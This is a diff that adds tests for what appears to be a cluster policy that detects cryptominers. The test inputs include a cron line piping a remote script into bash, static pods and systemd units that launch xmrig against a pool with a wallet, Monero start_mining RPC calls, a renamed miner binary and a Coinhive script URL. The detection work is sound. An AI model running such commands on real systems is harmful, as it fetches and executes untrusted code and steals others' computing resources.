@@ -87,3 +87,68 @@ test('a pool by its option and a wallet are those of a miner, on whatever port',
     'deny',
   );
 });
+
+const judgeFile = (name: string, text: string) =>
+  judgeObject({ kind: 'ConfigMap', data: { [name]: text } }, { indicators }).verdict;
+
+test('a static pod that a script writes is judged as a pod', () => {
+  const pod = (image: string) =>
+    `cat <<E > /m/cache.yaml\napiVersion: v1\nkind: Pod\nspec: {containers: [{name: c, image: '${image}'}]}\nE`;
+  expect(judgeScript(pod('docker.io/any/xmrig:1')).verdict).toBe('deny');
+  expect(judgeScript(pod('haproxy:2.9')).verdict).toBe('allow');
+});
+
+test('cron that runs what a server of others sends over plain HTTP is a dropper, a cron job of the house is not', () => {
+  const cron = (command: string) =>
+    judgeScript(`echo '*/15 * * * * root ${command}' > /host/etc/cron.d/l`).verdict;
+  expect(cron('curl -fsSL http://b.example.org/x.sh | bash')).toBe('deny');
+  expect(cron('curl -fsSL http://repo.acme.internal/x.sh | bash')).toBe('warn');
+  expect(cron('/usr/sbin/logrotate /etc/logrotate.conf')).toBe('allow');
+});
+
+test('a unit and a program of a ConfigMap are read without a word that belongs to miners', () => {
+  expect(judgeFile('a.service', `[Service]\nExecStart=/a/b -o 5.161.70.189:443 -u ${XMR} -k --tls\n`)).toBe(
+    'deny',
+  );
+  const login = String.raw`fmt.Fprintf(c, "{\"method\":\"login\",\"params\":{\"login\":\"${XMR}\",\"pass\":\"x\"}}")`;
+  expect(judgeFile('main.go', login)).toBe('deny');
+});
+
+test('a node that is asked to mine over its RPC or console mines, on a test network it plays', () => {
+  const asked = (port: number) => judgeScript(`curl http://monerod:${port}/start_mining -d '{}'`).verdict;
+  expect(asked(18081)).toBe('deny');
+  expect(asked(38081)).toBe('warn');
+  expect(judge('monerod', 'start_mining', XMR, '8').verdict).toBe('deny');
+  const stage = judge('monerod', '--stagenet', `--start-mining=${XMR}`, '--mining-threads=1');
+  expect(stage.verdict).toBe('warn');
+});
+
+test('a copy of a miner that exec starts is the miner', () => {
+  expect(judgeScript('cp /usr/local/bin/xmrig /usr/local/bin/web && exec web -c /c').verdict).toBe('deny');
+});
+
+test('a hot wallet of an exchange with concurrent workers is no miner', () => {
+  const env = Object.entries({ COIN: 'XMR', COLD_WALLET_ADDRESS: XMR, WORKER_CONCURRENCY: '4' });
+  expect(judgeContainer({ env: env.map(([name, value]) => ({ name, value })) }).verdict).toBe('allow');
+});
+
+test('who is paid at a pool and under which name are settings of a miner', () => {
+  const env = [
+    { name: 'NICEHASH_WALLET', value: 'NHbC' },
+    { name: 'NICEHASH_WORKER', value: 'w' },
+  ];
+  expect(judgeContainer({ env }).verdict).toBe('deny');
+  expect(judgeContainer({ env: [{ name: 'NICEHASH_API_KEY', value: 'k' }] }).verdict).toBe('allow');
+});
+
+test('the script of a pool that a browser loads mines', () => {
+  const open = (url: string) => judge('node', '-e', `page.goto('${url}')`).verdict;
+  expect(open('https://coinhive.com/lib/coinhive.min.js')).toBe('deny');
+  expect(open('https://supportxmr.com/')).not.toBe('deny');
+});
+
+test('a password that pools take and options that miners have make an address one of a pool', () => {
+  const told = (...more: string[]) => judge('/usr/bin/c', '--url=r.example.net:443', ...more).verdict;
+  expect(told('--user=w', '--pass=x', '--tls', '--keepalive')).toBe('deny');
+  expect(told('--user=w', '--pass=secret', '--tls', '--keepalive')).not.toBe('deny');
+});
